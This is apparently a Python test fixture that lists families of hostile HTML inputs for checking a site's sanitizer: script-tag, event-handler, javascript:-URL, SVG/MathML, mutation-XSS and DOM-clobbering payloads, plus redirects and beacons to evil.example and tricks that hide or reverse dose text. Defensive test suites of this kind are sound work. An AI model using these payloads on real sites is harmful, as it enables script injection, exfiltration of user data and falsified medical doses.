"""Hostile words by family, written for this site; `ran` is what each of them would call if a browser ran it."""

# ruff: noqa: E501  an attack is a line, however long

from typing import Final

_SCRIPT: Final = [
    "<script>ran(1)</script>", "<SCRIPT>ran(1)</SCRIPT>", "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>ran(1)</script>", "<script/x>ran(1)</script>", "<script\n>ran(1)</script\n>",
    "<<script>ran(1)//<</script>", "<script>ran(1)", "<script type=module>ran(1)</script>",
    "<svg><script>ran(1)</script></svg>", "<svg><script href=data:,ran(1) />", "<noscript><script>ran(1)</script>",
    "<template><script>ran(1)</script></template>", "<p><script>ran(1)</script>Take 5 mg</p>",
    "<script>/*</p>*/ran(1)/*</script>*/", "</p><script>ran(1)</script>", "<xmp><script>ran(1)</script></xmp>",
]  # fmt: skip
_HANDLERS: Final = [
    "<img src=x onerror=ran(1)>", "<IMG SRC=x OnErRoR=ran(1)>", '<img src="x" onerror="ran(1)"/>',
    "<img/src=x/onerror=ran(1)>", "<img src=x onerror\n=\nran(1)>", "<p onclick=ran(1)>x</p>",
    "<p onmouseover='ran(1)'>x</p>", "<a href=/ onfocus=ran(1) autofocus>x</a>", "<body onload=ran(1)>",
    "<details open ontoggle=ran(1)>x", "<video src=x onerror=ran(1)></video>", "<audio src onerror=ran(1)>",
    "<input autofocus onfocus=ran(1)>", "<select autofocus onfocus=ran(1)>", "<marquee onstart=ran(1)>x</marquee>",
    "<h2 onpointerenter=ran(1)>x</h2>", "<td onclick=ran(1)>x</td>", '<p lang="en" onclick="ran(1)">x</p>',
    '<abbr title="x" onanimationstart="ran(1)">x</abbr>', "<x onclick=ran(1) tabindex=1 autofocus onfocus=ran(1)>y",
    '<p "onclick=ran(1)">x</p>', "<button popovertarget=x onclick=ran(1)>x</button>",
]  # fmt: skip
_JAVASCRIPT: Final = [
    "javascript:ran(1)", "JaVaScRiPt:ran(1)", "java\tscript:ran(1)", "java\nscript:ran(1)", "java&#9;script:ran(1)",
    "java&Tab;script:ran(1)", "&#106;avascript:ran(1)", "&#x6A;avascript:ran(1)", "&#0000106avascript:ran(1)",
    "javascript&colon;ran(1)", "javascript&#58;ran(1)", " javascript:ran(1)", "\x01javascript:ran(1)",
    "\u2028javascript:ran(1)", "\u00a0javascript:ran(1)", "&NewLine;javascript:ran(1)", "javascript://x%0aran(1)",
    "vbscript:ran(1)", "jav\x00ascript:ran(1)", "feed:javascript:ran(1)", "view-source:javascript:ran(1)",
    "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "http:\\\\evil.example",
    "blob:https://evil.example/1", "file:///etc/passwd", "#location", "x y",
]  # fmt: skip
_DATA: Final = [
    '<a href="data:text/html,<script>ran(1)</script>">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="DATA:text/html,x">x</a>', '<img src="data:image/svg+xml,<svg onload=ran(1)>">',
    '<object data="data:text/html,<script>ran(1)</script>"></object>', '<embed src="data:text/html,x">',
]  # fmt: skip
_FOREIGN: Final = [
    "<svg onload=ran(1)>", "<svg><animate onbegin=ran(1) attributeName=x>", "<svg><a xlink:href=javascript:ran(1)>x</a>",
    "<svg><foreignObject><img src=x onerror=ran(1)></foreignObject></svg>", "<math href=javascript:ran(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:ran(1)>x</maction></math>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>ran(1)</script></svg>#x'/></svg>",
    "<svg><set attributeName=onmouseover to=ran(1)>", "<svg><image href=x onerror=ran(1)>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=ran(1)></annotation-xml></math>",
]  # fmt: skip
_MUTATION: Final = [
    "<style></style ><img src=x onerror=ran(1)></style>", "<svg><style><img src=x onerror=ran(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=ran(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(1)>",
    '<noscript><p title="</noscript><img src=x onerror=ran(1)>">', "<svg></p><style><a id=\"</style><img src=1 onerror=ran(1)>\">",
    '<p title="--><img src=x onerror=ran(1)>">x</p>', "<!--><img src=x onerror=ran(1)>-->",
    "<!--!><img src=x onerror=ran(1)>-->", "<![CDATA[<img src=x onerror=ran(1)>]]>", "<?x ><img src=x onerror=ran(1)>?>",
    "<style><![CDATA[</style><img src=x onerror=ran(1)>]]>", '<abbr title="&quot;&gt;<img src=x onerror=ran(1)>">x</abbr>',
    "<table><td><table><img src=x onerror=ran(1)></table>", "<textarea><img src=x onerror=ran(1)>",
    '<title><img title="</title><img src=x onerror=ran(1)>"></title>', "<xmp><p title='</xmp><img src=x onerror=ran(1)>'>",
    "<h1><!--</h1><img src=x onerror=ran(1)>-->", '<h1 x="</h1><img src=x onerror=ran(1)>">x',
    "<b <img src=x onerror=ran(1)>", "<h5/onclick=ran(1)>x</h5>", "<pre><img src=x onerror=ran(1)></pre>",
    "<center onclick=ran(1)>x</center>", "<plaintext><img src=x onerror=ran(1)>",
]  # fmt: skip
_FRAMES: Final = [
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "<form action=//evil.example>",
    "<form action=javascript:ran(1)><button>x</button></form>", "<iframe src=javascript:ran(1)></iframe>",
    "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>", "<object data=javascript:ran(1)></object>",
    "<embed src=javascript:ran(1)>", "<link rel=stylesheet href=//evil.example/x.css>", "<frameset onload=ran(1)>",
    "<isindex formaction=javascript:ran(1)>", "<button formaction=javascript:ran(1)>x</button>",
    "<img src=//evil.example/beacon>", "<img srcset=//evil.example/beacon>", "<table background=//evil.example/b>",
    "<video poster=//evil.example/b>", "<blockquote cite=javascript:ran(1)>x</blockquote>", "<a ping=//evil.example>x</a>",
    "<img src='//evil.example/?", "<portal src=//evil.example>", "<applet code=x>", "<a href=/ target=_blank>x</a>",
]  # fmt: skip
_HIDDEN_DOSES: Final = [
    '<p style="color:#fff">50 mg</p>', '<p style="position:fixed;inset:0">x</p>', '<div class="masthead">x</div>',
    '<p class="visually-hidden">50 mg</p>', '<div class="key-points visually-hidden">x</div>', "<p hidden>50 mg</p>",
    '<font color="white">50 mg</font>', "<style>p{display:none}</style>", '<p style="background:url(//evil.example)">x</p>',
    '<section class="care-card">x</section>', '<p aria-hidden="true">x</p>', '<ol start="-5"><li>x</li></ol>',
    '<ol start="99999"><li>x</li></ol>', '<td colspan="999999">x</td>', "5\u202e0 mg\u202c", "\u206650\u2069 mg",
    "\u202d5 mg", '<p dir="rtl onclick">x</p>', '<bdo dir="rtl">05 mg</bdo>',
]  # fmt: skip
_CLOBBERING: Final = [
    '<h2 id="location">x</h2>', '<h2 id="CKEDITOR">x</h2>', '<p id="w-x">x</p>', '<a name="body">x</a>',
    '<form name="getElementById"><input name="x"></form>', '<img name="getElementById">', '<h2 id="W-X">x</h2>',
    '<h2 id="w-a b">x</h2>', '<h2 id="django" name="x">x</h2>', '<a id="self" name="self" href="/x">x</a>',
    '<h2>x</h2><h3 id="w-x">x</h3><h2><div><h3 id="w-x">y</h3></div></h2>',
]  # fmt: skip
_ODD: Final = [
    "{{ 7*7 }}", "{% load x %}", "${7*7}", "<%= ran(1) %>", "%(x)s {0.__class__}", "#{ran(1)}",
    "<p>a\x00b</p>", "<im\x00g src=x onerror=ran(1)>", "<p>\ud800</p>", '<a href="/\udfff">x</a>', "<p>\ufffe\uffff</p>",
    "<", "<>", "</>", "<a", "<a href=", '<a href="', "&", "&#0;", "&#xD800;", "&#x202e;50", "&lt;script&gt;ran(1)&lt;/script&gt;",
    "\u0130<script>ran(1)</script>", "<ſcript>ran(1)</ſcript>", "＜script＞ran(1)＜/script＞",
]  # fmt: skip

FAMILIES: Final = {
    "script": _SCRIPT,
    "handlers": _HANDLERS,
    "javascript": [f'<a href="{address}">x</a>' for address in _JAVASCRIPT],
    "data": _DATA,
    "foreign": _FOREIGN,
    "mutation": _MUTATION,
    "frames": _FRAMES,
    "hidden doses": _HIDDEN_DOSES,
    "clobbering": _CLOBBERING,
    "odd": _ODD,
}
ATTACKS: Final = [words for family in FAMILIES.values() for words in family]
